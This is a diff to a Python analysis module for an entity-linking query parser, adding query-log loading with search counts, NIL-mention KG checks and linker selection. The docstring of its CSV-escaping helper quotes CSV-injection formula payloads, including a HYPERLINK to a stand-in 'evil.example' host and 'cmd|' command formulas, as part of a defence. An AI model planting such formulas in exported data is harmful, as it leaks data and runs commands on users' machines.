@@ -6,14 +6,18 @@ prints as a markdown table in Jupyter and converts with ``to_pandas()`` when pan
 The notebook ``notebooks/entity_links.ipynb`` only calls these.
 
 * :func:`link_coverage`: mentions, linked and NIL per tagger label.
-* :func:`ambiguity`: candidates per mention (``kg.link(mention, label).candidates``).
-* :func:`nil_mentions`: NIL mentions grouped by their text, most frequent first (the KG's gaps).
+* :func:`ambiguity`: candidates per mention (of the linker the parser links with, given
+  ``parser=``) and the parse's link.
+* :func:`nil_mentions`: NIL mentions grouped by their text, most searched first, and what the
+  KG has under each name (``absent``: the KG's gaps; or a node it does not link).
 * :func:`type_confusions`: tagger label against the node kind the KG knows the mention as.
 * :func:`link_scores` / :func:`plot_link_scores`: the distribution of link scores.
 * :func:`subgraph` / :func:`draw_subgraph`: the KG neighbourhood of linked entities.
 * :func:`kg_additions` / :func:`write_gazetteers`: what to add to the KG, written as gazetteer
   files for ``kgqp kg load KGDIR FILE --kind gazetteer --node-kind brand``.
-* :func:`load_query_log`: your own queries (a log file or a DataFrame) beside the samples.
+* :func:`load_query_log`: your own queries (a log file: lines, JSONL or CSV; or a DataFrame)
+  beside the samples, with how often each was searched (:class:`QueryLog`; pass its
+  ``searches`` to :func:`nil_mentions` and :func:`kg_additions`).
 * :func:`drill_down`: one query in full: spans, link candidates with their features, the link
   decision, intent top-k, expansions with their provenance.
 * :func:`kg_with_additions` / :func:`compare_parses`: a scratch KG with the additions loaded,
@@ -39,6 +43,7 @@ import bisect
 import itertools
 import json
 import logging
+import math
 import numbers
 import os
 import random
@@ -52,7 +57,7 @@ from typing import TYPE_CHECKING, Any, Generic, TypeVar
 from kg.build import DEFAULT_DATA_DIR
 from kg.io import atomic_write_text
 from kg.link import DEFAULT_LABEL_KINDS, LinkerConfig
-from kg.schema import normalize_name
+from kg.schema import attribute_key, brand_key, normalize_name, slug
 from parser.types import ParsedEntity, ParsedQuery
 
 if TYPE_CHECKING:  # pragma: no cover
@@ -63,7 +68,11 @@ if TYPE_CHECKING:  # pragma: no cover
 logger = logging.getLogger(__name__)
 
 __all__ = [
+    "ABSENT",
     "ADDITION_KINDS",
+    "IN_KG_LINKABLE",
+    "IN_KG_NOT_LINKABLE",
+    "IN_KG_OTHER_KIND",
     "STOPWORDS",
     "AdditionRow",
     "AmbiguityRow",
@@ -79,6 +88,7 @@ __all__ = [
     "LinkScores",
     "Mention",
     "NilRow",
+    "QueryLog",
     "Rows",
     "SpanRow",
     "Summary",
@@ -147,6 +157,10 @@ def _cell(value: Any) -> str:
 
 #: What a spreadsheet takes for the start of a formula in a text cell (OWASP, "CSV injection").
 _FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+#: kgqp's own placeholder for "no such span" or "no intent" (:func:`compare_parses`): a lone
+#: "-" is no formula to a spreadsheet (Excel and LibreOffice show it as the text "-"), so it
+#: is written as it is, not as ``'-``
+_PLACEHOLDER = "-"
 
 
 def _csv_text(value: Any) -> Any:
@@ -165,18 +179,24 @@ def _csv_cell(value: Any) -> Any:
     ``-``, ``@``, a tab or a carriage return would run as a formula where the CSV is opened
     (``=HYPERLINK("http://evil.example/?"&A1,"click")`` sends the sheet away, ``=cmd|...``
     runs a program), so such a cell gets a single quote in front (OWASP "CSV injection"): the
-    spreadsheet shows it as text. A query that starts so is quoted as well (``'-20% tv``); a
-    joined list is one text cell.
+    spreadsheet shows it as text. A query that starts so is quoted as well (``'-20% tv``,
+    ``'-samsung tv``: a spreadsheet reads ``-samsung`` as a formula too, and a ``+`` or ``-``
+    can open a command, ``-1+cmd|...``); a joined list is one text cell. Only kgqp's own
+    placeholder ``-`` alone (:func:`compare_parses`) is no formula and is written as it is.
+    The quote is part of the cell for any other reader: read the tables back with
+    ``Rows.to_pandas()``, not from the CSV.
 
     >>> _csv_cell("=1+2"), _csv_cell("-20% tv"), _csv_cell(-3), _csv_cell(0.5)
     ("'=1+2", "'-20% tv", -3, 0.5)
-    >>> _csv_cell(("@creator", "tv")), _csv_cell("samsung tv"), _csv_cell(None)
-    ("'@creator; tv", 'samsung tv', '')
+    >>> _csv_cell(("@creator", "tv")), _csv_cell("samsung tv"), _csv_cell(None), _csv_cell("-")
+    ("'@creator; tv", 'samsung tv', '', '-')
     """
     value = _csv_text(value)
     if isinstance(value, numbers.Number):
         return value
     text = str(value)
+    if text == _PLACEHOLDER:
+        return text
     return "'" + text if text.startswith(_FORMULA_START) else text
 
 
@@ -186,9 +206,9 @@ class Rows(list, Generic[T]):
     Example:
         >>> rows = Rows([NilRow(text="acme", count=2, labels=("creator",), example="acme tv")])
         >>> print(rows.to_markdown())
-        | text | count | labels | example |
-        |---|---|---|---|
-        | acme | 2 | creator | acme tv |
+        | text | count | labels | example | in_kg |
+        |---|---|---|---|---|
+        | acme | 2 | creator | acme tv |  |
     """
 
     def __init__(self, rows: Iterable[T] = (), *, row_type: type | None = None) -> None:
@@ -306,49 +326,166 @@ def load_bestbuy_queries(path: str | Path | None = None, *, sample: int | None =
     return _sample(queries, sample, seed)
 
 
+class QueryLog(list[str]):
+    """The distinct queries of a log (:func:`load_query_log`), most searched first, and
+    ``searches``: how often each was searched, in the same order. Pass it with the queries'
+    parses (``searches=``) to :func:`nil_mentions` and :func:`kg_additions`, so that their
+    counts are searches, not parses.
+
+    >>> log = QueryLog(["tv", "lg tv"], [120, 3])
+    >>> log == ["tv", "lg tv"], log.searches
+    (True, [120, 3])
+    """
+
+    def __init__(self, queries: Iterable[str] = (), searches: Iterable[float] | None = None
+                 ) -> None:
+        super().__init__(queries)
+        self.searches: list[float] = [1] * len(self) if searches is None else list(searches)
+        if len(self.searches) != len(self):
+            raise ValueError(f"{len(self.searches)} search counts for {len(self)} queries")
+
+
+def _search_count(value: Any) -> float | None:
+    """A log's count of searches as a number >= 0 (an int when whole), from a number or from
+    text that spells one (a CSV cell; a DataFrame column that pandas read as text because one
+    of its cells is no number); None for anything else (empty, "abc", NaN, -1)."""
+    if isinstance(value, bool):
+        return None
+    if isinstance(value, str):
+        try:
+            value = float(value)
+        except ValueError:
+            return None
+    if not isinstance(value, numbers.Real) or not 0 <= value < math.inf:  # (NaN: False)
+        return None
+    return int(value) if float(value).is_integer() else float(value)
+
+
+def _csv_log(path: Path, column: str, count_column: str) -> list[tuple[Any, float]]:
+    """``(query, searches)`` of each row of the CSV file ``path``: its header names the
+    ``column`` of queries and, when it has one, the ``count_column`` of searches per row."""
+    import csv
+
+    from parser.errors import DataFormatError
+
+    rows: list[tuple[Any, float]] = []
+    try:
+        with open(path, encoding="utf-8-sig", newline="") as fh:
+            reader = csv.DictReader(fh)
+            header = reader.fieldnames or []
+            if column not in header:
+                raise DataFormatError(
+                    f"{path}: a CSV query log needs a {column!r} column in its header line, "
+                    f"got {header}: pass column=NAME (and count_column=NAME), or a DataFrame")
+            for row in reader:
+                n: float | None = 1
+                if count_column in header:
+                    n = _search_count(row[count_column])
+                    if n is None:
+                        raise DataFormatError(
+                            f"{path}:{reader.line_num}: {count_column!r} must be a number >= "
+                            f"0, got {row[count_column]!r}: fix the row")
+                rows.append((row[column], n))
+    except UnicodeDecodeError as err:
+        raise DataFormatError(f"{path}: not valid UTF-8 ({err.reason}): re-encode the file as "
+                              "UTF-8") from None
+    return rows
+
+
+def _warn_if_csv_header(path: Path, column: str, count_column: str) -> None:
+    """Warn when the first line of a log read as one query per line looks like a CSV header
+    (``query,count``): its rows would be read as queries, commas and counts included."""
+    from parser.tagger.formats import text_lines
+
+    for _, line in text_lines(path):
+        if not line.strip():
+            continue
+        cells = {c.strip().strip("\"'").casefold() for c in line.split(",")}
+        if "," in line and cells & {column.casefold(), count_column.casefold()}:
+            logger.warning("%s: its first line %r looks like a CSV header, but the file is read "
+                           "as one query per line (header and counts included): name it .csv, "
+                           "or pass a DataFrame (pandas.read_csv)", path, line.strip()[:80])
+        return
+
+
+def _merged_log(rows: Iterable[tuple[Any, float]]) -> list[Any]:
+    """The distinct queries of ``rows`` (``(query, searches)``; a blank or missing query
+    skipped) as :class:`parser.learn.LogQuery`, merged as :func:`parser.learn.read_query_log`
+    merges a file: case and spacing variants count as one (the first spelling kept, spaces
+    collapsed)."""
+    from parser.learn import LogQuery, query_key
+
+    counts: dict[str, list[Any]] = {}
+    for q, n in rows:
+        if isinstance(q, str) and q.strip():
+            key = query_key(q)
+            if key in counts:
+                counts[key][1] += n
+            else:
+                counts[key] = [" ".join(q.split()), n]
+    return [LogQuery(q, c) for q, c in counts.values()]
+
+
 def load_query_log(source: str | Path | Any, *, column: str = "query",
                    count_column: str = "count", sample: int | None = None,
-                   seed: int = 0) -> list[str]:
-    """Your own queries: a query log file (one query per line, or ``.jsonl`` with
-    ``{"query", "count"}``, as ``kgqp learn select`` reads it: :func:`parser.learn.read_query_log`)
-    or a pandas DataFrame (its ``column``, and its ``count_column`` of searches per row when it
-    has one, e.g. an aggregated log; else each row is one search). Distinct queries, most
-    searched first; ``sample`` keeps that many, drawn with ``seed``.
+                   seed: int = 0) -> QueryLog:
+    """Your own queries: a query log file or a pandas DataFrame. A file is read by its suffix
+    (in any case): ``.jsonl`` with ``{"query", "count"}`` per line, as ``kgqp learn select``
+    reads it (:func:`parser.learn.read_query_log`); ``.csv`` with a header line naming its
+    ``column`` of queries and, when it has one, its ``count_column`` of searches per row;
+    anything else one query per line (a repeat is one more search; a first line that looks
+    like a CSV header is warned about). A DataFrame: its ``column``, and its
+    ``count_column`` of searches per row when it has one, e.g. an aggregated log; else each
+    row is one search.
+
+    Distinct queries, most searched first, as a :class:`QueryLog` (a list of the texts, with
+    their ``searches``); ``sample`` keeps that many, drawn with ``seed``.
 
     >>> import tempfile, pathlib
     >>> p = pathlib.Path(tempfile.mkdtemp()) / "log.txt"
     >>> _ = p.write_text("tv\\nsamsung tv\\nTV\\n")
-    >>> load_query_log(p)
-    ['tv', 'samsung tv']
+    >>> log = load_query_log(p)
+    >>> log, log.searches
+    (['tv', 'samsung tv'], [2, 1])
     """
-    from parser.learn import LogQuery, query_key, read_query_log
+    from parser.errors import DataFormatError
+    from parser.learn import read_query_log
 
     if isinstance(source, (str, Path)):
-        log = read_query_log(source)
+        path = Path(source)
+        suffix = path.suffix.casefold()
+        if suffix == ".csv" and path.is_file():
+            log = _merged_log(_csv_log(path, column, count_column))
+        else:
+            if suffix != ".jsonl" and path.is_file():
+                _warn_if_csv_header(path, column, count_column)
+            log = read_query_log(path)
+        if not log:
+            raise DataFormatError(f"query log {path} holds no queries")
     else:
         if not hasattr(source, "columns") or column not in source.columns:
             raise ValueError(f"pass a query log path or a DataFrame with a {column!r} column")
-        # merged as read_query_log merges a file: case and spacing variants count as one
-        # (the first spelling kept, spaces collapsed)
         searches = (source[count_column] if count_column in source.columns
                     else itertools.repeat(1))
-        counts: dict[str, list[Any]] = {}
-        for i, (q, n) in enumerate(zip(source[column], searches)):  # noqa: B905
-            if isinstance(n, bool) or not isinstance(n, numbers.Real) or not n >= 0:
-                raise ValueError(f"row {i}: {count_column!r} must be a number >= 0, got {n!r}")
-            if isinstance(q, str) and q.strip():
-                key = query_key(q)
-                if key in counts:
-                    counts[key][1] += n
-                else:
-                    counts[key] = [" ".join(q.split()), n]
-        log = [LogQuery(q, c) for q, c in counts.values()]
+        index = getattr(source, "index", None)
+        rows: list[tuple[Any, float]] = []
+        for i, (q, raw) in enumerate(zip(source[column], searches)):  # noqa: B905
+            n = _search_count(raw)
+            if n is None:
+                # the row by position, and by its index label when that is another
+                label = index[i] if index is not None else i
+                where = f"row {i}" + (f" (index {label!r})" if label != i else "")
+                raise ValueError(
+                    f"{where}: {count_column!r} must be a number >= 0, got {raw!r}; to leave "
+                    f"out rows without one: df[{count_column!r}] = pd.to_numeric("
+                    f"df[{count_column!r}], errors='coerce'), then .dropna()")
+            rows.append((q, n))
+        log = _merged_log(rows)
     order = sorted(range(len(log)), key=lambda i: -log[i].count)
-    queries = [log[i].text for i in order]
-    if sample is None or sample >= len(queries):
-        return queries
-    keep = sorted(random.Random(seed).sample(range(len(queries)), sample))
-    return [queries[i] for i in keep]
+    if sample is not None and sample < len(order):
+        keep = sorted(random.Random(seed).sample(range(len(order)), sample))
+        order = [order[i] for i in keep]
+    return QueryLog([log[i].text for i in order], [log[i].count for i in order])
 
 
 def parse_all(parser: Any, queries: Sequence[str], *, batch_size: int = 64,
@@ -365,7 +502,11 @@ def parse_all(parser: Any, queries: Sequence[str], *, batch_size: int = 64,
 # -- mentions -----------------------------------------------------------------------------------
 @dataclass(frozen=True, slots=True)
 class Mention:
-    """One entity of one parsed query, flattened; ``linkable``: its label may link to the KG."""
+    """One entity of one parsed query, flattened. ``linkable``: its tagger label maps to a KG
+    kind, so the parser links it (a label of none, such as ``condition`` or ``price``, links
+    only through a cue the parser reads, "without freezer": such a mention may be linked and
+    yet not linkable, and is never NIL); ``searches``: how often its query was searched (1
+    for a query of no log)."""
 
     query: str
     text: str
@@ -376,6 +517,7 @@ class Mention:
     kg_label: str | None = None
     kg_kind: str | None = None
     link_score: float | None = None
+    searches: float = 1
 
     @property
     def nil(self) -> bool:
@@ -387,25 +529,42 @@ class Mention:
 
 
 def _linkable(label: str, label_kinds: Mapping[str, tuple[str, ...]]) -> bool:
+    # as the parser decides: a label mapped to no kind, or one the map does not know, is not
+    # linked (ParserConfig.link_labels_only, on by default)
     return bool(label_kinds.get(label))
 
 
+def _searches(searches: Sequence[float] | None, n: int) -> Sequence[float]:
+    if searches is None:
+        return [1] * n
+    if len(searches) != n:
+        raise ValueError(f"searches: one count per parsed query, got {len(searches)} for {n} "
+                         "queries")
+    return searches
+
+
 def mentions(parsed: Iterable[ParsedQuery], *,
-             label_kinds: Mapping[str, tuple[str, ...]] | None = None) -> Rows[Mention]:
+             label_kinds: Mapping[str, tuple[str, ...]] | None = None,
+             searches: Sequence[float] | None = None) -> Rows[Mention]:
     """Every entity of every query as a :class:`Mention` (``label_kinds``: which tagger labels
-    link; default :data:`kg.link.DEFAULT_LABEL_KINDS`, as the parser uses)."""
+    link; default :data:`kg.link.DEFAULT_LABEL_KINDS`, as the parser uses; ``searches``: how
+    often each query was searched, in the order of ``parsed``, e.g. a
+    :class:`QueryLog`'s; default 1 each)."""
     lk = DEFAULT_LABEL_KINDS if label_kinds is None else label_kinds
+    parsed = list(parsed)
     out: Rows[Mention] = Rows(row_type=Mention)
-    for q in parsed:
+    for q, n in zip(parsed, _searches(searches, len(parsed)), strict=True):
         for e in q.entities:
-            out.append(_mention(q.text, e, lk))
+            out.append(_mention(q.text, e, lk, n))
     return out
 
 
-def _mention(query: str, e: ParsedEntity, lk: Mapping[str, tuple[str, ...]]) -> Mention:
+def _mention(query: str, e: ParsedEntity, lk: Mapping[str, tuple[str, ...]],
+             searches: float = 1) -> Mention:
     return Mention(query=query, text=e.text, label=e.label, score=e.score,
-                   linkable=_linkable(e.label, lk) or e.kg_id is not None, kg_id=e.kg_id,
-                   kg_label=e.kg_label, kg_kind=e.kg_kind, link_score=e.link_score)
+                   linkable=_linkable(e.label, lk), kg_id=e.kg_id,
+                   kg_label=e.kg_label, kg_kind=e.kg_kind, link_score=e.link_score,
+                   searches=searches)
 
 
 def _as_mentions(data: Iterable[ParsedQuery] | Rows[Mention]) -> list[Mention]:
@@ -415,9 +574,27 @@ def _as_mentions(data: Iterable[ParsedQuery] | Rows[Mention]) -> list[Mention]:
     return list(mentions(items))
 
 
+def _by_query(data: Iterable[ParsedQuery] | Rows[Mention], searches: Sequence[float] | None
+              ) -> list[list[Mention]]:
+    """The mentions of each query (a query's searches on each): of parsed queries, query by
+    query; of :func:`mentions` rows, each run of one query's (as :func:`mentions` lists
+    them), whose ``searches`` they carry."""
+    items = list(data)
+    if items and isinstance(items[0], Mention):
+        if searches is not None:
+            raise ValueError("searches go with parsed queries; mentions carry their own "
+                             "(mentions(parsed, searches=...))")
+        return [list(run) for _, run in itertools.groupby(items, key=lambda m: m.query)]
+    lk = DEFAULT_LABEL_KINDS
+    return [[_mention(q.text, e, lk, n) for e in q.entities]
+            for q, n in zip(items, _searches(searches, len(items)), strict=True)]
+
+
 @dataclass(frozen=True, slots=True)
 class Summary:
-    """Totals over a set of parsed queries."""
+    """Totals over a set of parsed queries: ``linkable`` mentions have a label that maps to a
+    KG kind, ``linked`` ones a KG node (whatever their label: "without freezer", a
+    ``condition``, links Freezers), ``nil`` ones a linkable label and no node."""
 
     queries: int
     mentions: int
@@ -428,8 +605,9 @@ class Summary:
 
     @property
     def coverage(self) -> float:
-        """Linked share of the linkable mentions."""
-        return self.linked / self.linkable if self.linkable else 0.0
+        """Linked share of the linkable mentions (``linkable - nil``: a link of a label that
+        maps to no kind is no share of them)."""
+        return (self.linkable - self.nil) / self.linkable if self.linkable else 0.0
 
     def _repr_markdown_(self) -> str:
         return Rows([self]).to_markdown() + f"\n\ncoverage: {self.coverage:.1%}"
@@ -448,21 +626,26 @@ def summary(parsed: Sequence[ParsedQuery]) -> Summary:
 # -- coverage -----------------------------------------------------------------------------------
 @dataclass(frozen=True, slots=True)
 class CoverageRow:
-    """Link coverage of one tagger label (``label == "(all)"``: every linkable label)."""
+    """Link coverage of one tagger label (``label == "(all)"``: every linkable label).
+    ``mentions`` = ``linked`` + ``nil`` + ``not_linkable``: ``linkable`` says whether the label
+    maps to a KG kind (the parser links it); a mention of a label that maps to none is
+    ``not_linkable`` unless a cue linked it ("without freezer", a ``condition``: linked)."""
 
     label: str
     mentions: int
     linkable: bool
     linked: int
     nil: int
+    not_linkable: int
     coverage: float
     mean_link_score: float | None
     kinds: tuple[str, ...] = ()
 
 
 def link_coverage(parsed: Iterable[ParsedQuery] | Rows[Mention]) -> Rows[CoverageRow]:
-    """Mentions, linked, NIL and coverage (linked / mentions) per tagger label, most mentions
-    first, then an ``(all)`` row over the linkable labels. ``kinds``: node kinds linked to."""
+    """Mentions, linked, NIL, not linkable and coverage (linked / mentions) per tagger label,
+    linkable labels first, most mentions first, then an ``(all)`` row over the linkable
+    labels. ``kinds``: node kinds linked to."""
     by: dict[str, list[Mention]] = defaultdict(list)
     for m in _as_mentions(parsed):
         by[m.label].append(m)
@@ -471,14 +654,16 @@ def link_coverage(parsed: Iterable[ParsedQuery] | Rows[Mention]) -> Rows[Coverag
         linked = [m for m in ms if m.kg_id is not None]
         scores = [m.link_score for m in linked if m.link_score is not None]
         kinds = Counter(m.kg_kind for m in linked if m.kg_kind)
+        nil = sum(m.nil for m in ms)
         return CoverageRow(label=label, mentions=len(ms), linkable=linkable, linked=len(linked),
-                           nil=sum(m.nil for m in ms),
+                           nil=nil, not_linkable=len(ms) - len(linked) - nil,
                            coverage=round(len(linked) / len(ms), 4) if ms else 0.0,
                            mean_link_score=round(sum(scores) / len(scores), 4) if scores
                            else None,
                            kinds=tuple(k for k, _ in kinds.most_common()))
 
-    rows = Rows((row(label, ms, any(m.linkable for m in ms)) for label, ms in
+    # (a label is linkable or not for all its mentions: Mention.linkable reads the label)
+    rows = Rows((row(label, ms, ms[0].linkable) for label, ms in
                  sorted(by.items(), key=lambda kv: (-len(kv[1]), kv[0]))), row_type=CoverageRow)
     rows.sort(key=lambda r: (not r.linkable, -r.mentions, r.label))
     rows.append(row(ALL, [m for ms in by.values() for m in ms if m.linkable], True))
@@ -490,7 +675,8 @@ def link_coverage(parsed: Iterable[ParsedQuery] | Rows[Mention]) -> Rows[Coverag
 class AmbiguityRow:
     """How ambiguous a mention is: ``candidates`` KG nodes for it (every candidate the linker
     generates, not only the ``max_candidates`` it ranks), of ``kinds`` distinct kinds;
-    ``margin`` = best score - second best (small = a close call)."""
+    ``margin`` = best score - second best (small = a close call); ``linked_to``: what the
+    parse linked it to (the most frequent, over its mentions; None: NIL)."""
 
     mention: str
     label: str
@@ -502,41 +688,67 @@ class AmbiguityRow:
     linked_to: str | None
 
 
-def _link(kg: ProductGraph, text: str, label: str | None, context: str | None) -> Any:
+def _linker(kg: ProductGraph | None, parser: Any = None) -> Any:
+    """The linker whose candidates a view shows: with ``parser``, the one it links with (its
+    bundle's settings, told its tagger's WordPiece vocabulary: "sneakers" is then no typo of
+    Speakers; ``QueryParser._entity_linker``), else a linker with ``kg.link``'s default
+    settings and no vocabulary."""
+    from kg.link import EntityLinker
+
+    if parser is not None:
+        links_with = getattr(parser, "_entity_linker", None)
+        linker = links_with() if callable(links_with) else getattr(parser, "linker", None)
+        if linker is not None:
+            return linker
+        kg = parser.kg
+    return EntityLinker(kg)
+
+
+def _link(linker: Any, text: str, label: str | None, context: str | None) -> Any:
     try:
-        return kg.link(text, label=label, context=context)
+        return linker.link(text, label=label, context=context)
     except ValueError:  # a label the linker does not know: link without a type, as the parser
-        return kg.link(text, label=None, context=context)
+        return linker.link(text, label=None, context=context)
 
 
 def ambiguity(parsed: Iterable[ParsedQuery] | Rows[Mention], kg: ProductGraph, *,
-              top: int | None = None, show: int = 3) -> Rows[AmbiguityRow]:
-    """Candidates per distinct (mention, label) of the linkable mentions, most candidates first.
+              top: int | None = None, show: int = 3, parser: Any = None) -> Rows[AmbiguityRow]:
+    """Candidates per distinct (mention, label) of the linkable (or linked) mentions, most
+    candidates first.
 
     Args:
         parsed: parsed queries (or :func:`mentions`).
         kg: the KG the queries were linked against.
         top: keep this many rows (None: all).
         show: candidates named in ``top`` (``"label (kind) 0.83"``).
+        parser: the :class:`parser.QueryParser` that parsed them: the candidates are then
+            those of the linker it links with (its tagger's vocabulary and its bundle's
+            settings), else ``kg.link``'s, which may name candidates the parse never had
+            ("sneakers": Speakers, a typo without the vocabulary). ``linked_to`` is the
+            parse's own link either way, and the candidates are those of the mention in a
+            query where the parse linked it so.
     """
     groups: dict[tuple[str, str], list[Mention]] = defaultdict(list)
     for m in _as_mentions(parsed):
-        if m.linkable and m.norm:
+        if (m.linkable or m.kg_id is not None) and m.norm:
             groups[(m.norm, m.label)].append(m)
-    from kg.link import EntityLinker
-
-    linker = EntityLinker(kg)
+    linker = _linker(kg, parser)
+    # (a linker of another kind, e.g. a test's, may generate nothing on its own)
+    generator = linker if callable(getattr(linker, "generate", None)) else _linker(kg)
     rows: Rows[AmbiguityRow] = Rows(row_type=AmbiguityRow)
     for (norm, label), ms in groups.items():
-        result = _link(kg, ms[0].text, label, ms[0].query)
+        links = Counter(m.kg_id for m in ms)
+        link = max(links, key=links.__getitem__)  # (the first seen of the most frequent)
+        example = next(m for m in ms if m.kg_id == link)
+        result = _link(linker, example.text, label, example.query)
         cands = result.candidates
-        generated = _generate(linker, ms[0].text, label, ms[0].query)
+        generated = _generate(generator, example.text, label, example.query)
         margin = round(cands[0].score - cands[1].score, 4) if len(cands) > 1 else None
         rows.append(AmbiguityRow(
             mention=norm, label=label, count=len(ms), candidates=len(generated),
             kinds=len({c.kind for c, _, _ in generated}),
             top=tuple(f"{c.label} ({c.kind}) {c.score:.2f}" for c in cands[:show]),
-            margin=margin, linked_to=result.best.label if result.best else None))
+            margin=margin, linked_to=example.kg_label))
     rows.sort(key=lambda r: (-r.candidates, -r.count, r.margin if r.margin is not None else 9,
                              r.mention))
     return Rows(rows[:top], row_type=rows.row_type) if top is not None else rows
@@ -560,31 +772,95 @@ def candidate_counts(rows: Iterable[AmbiguityRow]) -> dict[int, int]:
 # -- NIL mentions -------------------------------------------------------------------------------
 @dataclass(frozen=True, slots=True)
 class NilRow:
-    """A mention text that linked to nothing, ``count`` times, with the labels it had."""
+    """A mention text that linked to nothing, in queries searched ``count`` times (a query
+    once, however often it holds the text), with the labels it had; ``in_kg``: what the KG
+    has under that name (:func:`nil_mentions`)."""
 
     text: str
-    count: int
+    count: float
     labels: tuple[str, ...]
     example: str
+    in_kg: str = ""
+
+
+#: What the KG has under a NIL mention's name (:attr:`NilRow.in_kg`, :func:`kg_additions`).
+ABSENT = "absent"
+IN_KG_NOT_LINKABLE = "in the KG, not linkable"
+IN_KG_OTHER_KIND = "in the KG as another kind"
+IN_KG_LINKABLE = "in the KG, linkable"
+
+
+def _in_kg(kg: ProductGraph, text: str, label: str, unlinkable: frozenset[str],
+           lk: Mapping[str, tuple[str, ...]] = DEFAULT_LABEL_KINDS) -> tuple[str, tuple[str, ...]]:
+    """What the KG has under the name ``text`` (a NIL mention tagged ``label``), and of which
+    kinds: :data:`ABSENT`, nothing; :data:`IN_KG_NOT_LINKABLE`, only nodes marked
+    non-linkable (lexicon only: loading the name again changes nothing; make it an alias of a
+    linkable node); :data:`IN_KG_OTHER_KIND`, linkable nodes of kinds ``label`` may not link
+    to (a tagger error, :func:`type_confusions`); :data:`IN_KG_LINKABLE`, a linkable node the
+    label may link to, which the linker did not take in that query (its score, or the
+    query's audience: :func:`drill_down`). A name is the KG's when a node has it as its name
+    or an alias, or when the linker matches a node by it exactly or up to number or
+    possessive ("tvs")."""
+    known: list[Any] = list(kg.alias_index.lookup(text))
+    if not known:
+        best = kg.link(text, label=None).best
+        if best is not None and best.match_type in ("exact", "alias"):  # plural, possessive
+            known = [best]
+    if not known:
+        return ABSENT, ()
+
+    def kind(c: Any) -> str:
+        return _kind_name(str(getattr(c.kind, "value", c.kind) or ""), c.attribute)
+
+    linkable = [c for c in known if c.iri not in unlinkable]
+    fits = [c for c in linkable if label not in lk or _compatible(label, kind(c), lk)]
+    reason, of = ((IN_KG_LINKABLE, fits) if fits else (IN_KG_OTHER_KIND, linkable) if linkable
+                  else (IN_KG_NOT_LINKABLE, known))
+    return reason, tuple(sorted({kind(c) for c in of}))
 
 
 def nil_mentions(parsed: Iterable[ParsedQuery] | Rows[Mention], *,
-                 top: int | None = None) -> Rows[NilRow]:
-    """NIL mentions (linkable label, no KG node) grouped by normalised text, most frequent
-    first: the strings the KG is missing (or the tagger got wrong)."""
+                 top: int | None = None, kg: ProductGraph | None = None,
+                 searches: Sequence[float] | None = None) -> Rows[NilRow]:
+    """NIL mentions (linkable label, no KG node) grouped by normalised text, most searched
+    first: the strings the parse could not link. ``count``: the searches of the queries that
+    hold the text (``searches``: each parsed query's, in order, e.g. a :class:`QueryLog`'s;
+    default 1 each, so a count of queries), a query counted once.
+
+    With ``kg``, ``in_kg`` says what the KG has under the name: ``absent`` (a gap:
+    :func:`kg_additions` suggests it), ``in the KG, not linkable: KIND`` (a lexicon-only node:
+    make the name an alias of a linkable node), ``in the KG as another kind: KIND`` (the
+    tagger's label does not fit it: :func:`type_confusions`) or ``in the KG, linkable: KIND``
+    (the linker did not take it in that query: :func:`drill_down`)."""
     groups: dict[str, list[Mention]] = defaultdict(list)
-    for m in _as_mentions(parsed):
-        if m.nil and m.norm:
-            groups[m.norm].append(m)
+    counts: Counter[str] = Counter()
+    for ms in _by_query(parsed, searches):
+        seen: set[str] = set()
+        for m in ms:
+            if m.nil and m.norm:
+                groups[m.norm].append(m)
+                if m.norm not in seen:  # a repeat inside one query is no other search
+                    seen.add(m.norm)
+                    counts[m.norm] += m.searches
     rows = Rows((
-        NilRow(text=norm, count=len(ms),
+        NilRow(text=norm, count=counts[norm],
                labels=tuple(f"{lab}×{n}" if n > 1 else lab
                             for lab, n in Counter(m.label for m in ms).most_common()),
                example=ms[0].query)
         for norm, ms in groups.items()
     ), row_type=NilRow)
     rows.sort(key=lambda r: (-r.count, r.text))
-    return Rows(rows[:top], row_type=rows.row_type) if top is not None else rows
+    rows = Rows(rows[:top], row_type=rows.row_type) if top is not None else rows
+    if kg is not None:
+        from kg.link import unlinkable_iris
+
+        unlinkable = unlinkable_iris(kg)
+        for i, r in enumerate(rows):
+            ms = groups[r.text]
+            label = Counter(m.label for m in ms).most_common(1)[0][0]
+            reason, kinds = _in_kg(kg, ms[0].text, label, unlinkable)
+            rows[i] = replace(r, in_kg=f"{reason}: {', '.join(kinds)}" if kinds else reason)
+    return rows
 
 
 # -- type confusions ----------------------------------------------------------------------------
@@ -681,7 +957,10 @@ def plot_confusions(ax: Any, rows: Sequence[ConfusionRow], *, cmap: str = "Blues
 # -- link scores --------------------------------------------------------------------------------
 @dataclass(frozen=True, slots=True)
 class LinkScores:
-    """Link scores: of linked mentions, and of the best (rejected) candidate of NIL mentions.
+    """Link scores: of linked mentions, and of the best (rejected) candidate of NIL mentions;
+    ``rejected_type``: those of ``rejected`` whose candidate the linker ruled out for its type
+    (a node kind the tagger label may not link to, or a category of an audience the query
+    rules out), whatever its score.
 
     Example:
         >>> LinkScores(linked=[0.9, 0.7], rejected=[0.5], threshold=0.55).histogram(bins=2)
@@ -693,6 +972,7 @@ class LinkScores:
     linked: list[float] = field(default_factory=list)
     rejected: list[float] = field(default_factory=list)
     threshold: float = LinkerConfig().nil_threshold
+    rejected_type: list[float] = field(default_factory=list)
 
     def histogram(self, *, bins: int = 20, lo: float = 0.0, hi: float = 1.0
                   ) -> tuple[list[float], list[int], list[int]]:
@@ -713,32 +993,41 @@ class LinkScores:
         return edges, count(self.linked), count(self.rejected)
 
 
-def link_scores(parsed: Iterable[ParsedQuery] | Rows[Mention], kg: ProductGraph | None = None
-                ) -> LinkScores:
-    """Scores of the linked mentions; with ``kg``, also the best candidate's score of each NIL
-    mention that had candidates (so the histogram shows what the NIL threshold cut off)."""
+def link_scores(parsed: Iterable[ParsedQuery] | Rows[Mention], kg: ProductGraph | None = None,
+                *, parser: Any = None) -> LinkScores:
+    """Scores of the linked mentions; with ``kg`` (or ``parser``), also the best candidate's
+    score of each NIL mention that had candidates (so the histogram shows what the NIL
+    threshold cut off). With ``parser``, the candidates are those of the linker it links
+    with (:func:`ambiguity`), so a rejected score at or above the threshold is one of a
+    candidate ruled out for its type; ``kg.link`` alone (no tagger vocabulary) may score
+    candidates the parse never had ("sneakers": Speakers)."""
+    linker = _linker(kg, parser) if kg is not None or parser is not None else None
     linked: list[float] = []
     rejected: list[float] = []
+    rejected_type: list[float] = []
     for m in _as_mentions(parsed):
         if m.link_score is not None:
             linked.append(m.link_score)
